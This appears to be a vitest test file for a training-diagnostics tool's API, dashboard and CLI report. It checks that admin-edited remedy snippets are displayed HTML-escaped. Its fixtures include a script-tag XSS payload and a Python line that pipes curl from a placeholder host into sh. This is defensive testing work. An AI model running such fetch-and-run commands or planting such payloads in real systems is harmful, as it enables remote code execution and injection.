import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../src/api/index.js';
import { seedDir } from '../../src/config/index.js';
import { seedTraindx, type Traindx } from '../../src/engine/index.js';
import { loadSeed } from '../../src/knowledge/index.js';
import { openMemoryStore } from '../../src/store/index.js';
import { runCli } from '../support/run-cli.js';

// Issue 17 item 3: a remedy's snippet an admin changed is code to read, never markup to run. Sent
// through the API, it is shown escaped on the dashboard's run page (and in view.json, whose fragments
// the page swaps in) and in the HTML report of the stored run.

const SCRIPT = '<script>alert("owned")</script>';
const SHELL = "import os; os.system('curl https://example.invalid/x | sh')";
const RUN = 'snippet-run';

describe('snippets a team sent are shown as text', () => {
  const dir = mkdtempSync(join(tmpdir(), 'traindx-snippets-'));
  let traindx: Traindx;
  let server: ReturnType<typeof createServer>;
  let url: string;
  const gql = async (query: string, variables: object = {}) => {
    const res = await fetch(`${url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ query, variables }),
    });
    const body = (await res.json()) as { data: any; errors?: { message: string }[] };
    if (body.errors) throw new Error(body.errors.map((e) => e.message).join('; '));
    return body.data;
  };

  beforeAll(async () => {
    ({ traindx } = await seedTraindx({ store: await openMemoryStore({ dataDir: dir }) }));
    server = createServer(createApp({ traindx }));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
    const remedy = (await loadSeed([seedDir()])).remedies.find((r) => r.id === 'lower_learning_rate')!;
    await gql('mutation($k: JSON!) { upsertKnowledge(knowledge: $k) { remedies } }', {
      k: { remedies: [{ ...remedy, snippets: { tfjs: SCRIPT, keras: SCRIPT, pytorch: SHELL } }] },
    });
    await gql('mutation($r: JSON!) { startRun(run: $r) { id } }', {
      r: { formatVersion: 1, id: RUN, optimizer: { name: 'sgd', learningRate: 10 } },
    });
    await gql(
      'mutation($e: [JSON!]!) { logEvents(runId: "snippet-run", batchId: "b0", events: $e) { accepted } }',
      {
        e: [
          { type: 'step', step: 0, loss: 2.3 },
          { type: 'step', step: 1, loss: 'NaN' },
        ],
      },
    );
    await gql('mutation { finishRun(runId: "snippet-run", end: {step: 1, status: "diverged"}) { status } }');
  }, 60_000);

  afterAll(async () => {
    await new Promise<void>((r) => server.close(() => r()));
    await traindx.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('keeps the snippet as sent in the API, for a client to show as text', async () => {
    const { remedy } = await gql('{ remedy(id: "lower_learning_rate") { snippets { tfjs pytorch } } }');
    expect(remedy.snippets).toEqual({ tfjs: SCRIPT, pytorch: SHELL });
    const { run } = await gql('{ run(id: "snippet-run") { diagnosis { remedies { id } } } }');
    expect(run.diagnosis.remedies.map((r: { id: string }) => r.id)).toContain('lower_learning_rate');
  });

  it("escapes it on the dashboard's run page and in the fragments view.json sends the page", async () => {
    const page = await (await fetch(`${url}/runs/${RUN}`)).text();
    expect(page).toContain('&lt;script&gt;alert(&quot;owned&quot;)&lt;/script&gt;');
    expect(page).toContain('import os; os.system(&#39;curl https://example.invalid/x | sh&#39;)');
    expect(page).not.toContain(SCRIPT);
    const view = (await (await fetch(`${url}/runs/${RUN}/view.json`)).json()) as {
      sections: { html: string }[];
    };
    const html = view.sections.map((s) => s.html).join('\n');
    expect(html).toContain('&lt;script&gt;alert(&quot;owned&quot;)&lt;/script&gt;');
    expect(html).not.toContain(SCRIPT);
  });

  it('escapes it in the HTML report of the stored run', async () => {
    await new Promise<void>((r) => server.close(() => r()));
    await traindx.close();
    const out = join(dir, 'report.html');
    const res = runCli(['report', RUN, '--store', 'memory', '--data-dir', dir, '-o', out]);
    expect(res.stderr).toBe('');
    expect(res.code).toBe(0);
    const report = readFileSync(out, 'utf8');
    expect(report).toContain('&lt;script&gt;alert(&quot;owned&quot;)&lt;/script&gt;');
    expect(report).toContain('import os; os.system(&#39;curl https://example.invalid/x | sh&#39;)');
    expect(report).not.toContain(SCRIPT);
    // Reopened for afterAll, which closes both again.
    ({ traindx } = await seedTraindx({ store: await openMemoryStore({ dataDir: dir }) }));
    server = createServer(createApp({ traindx }));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  }, 120_000);
});
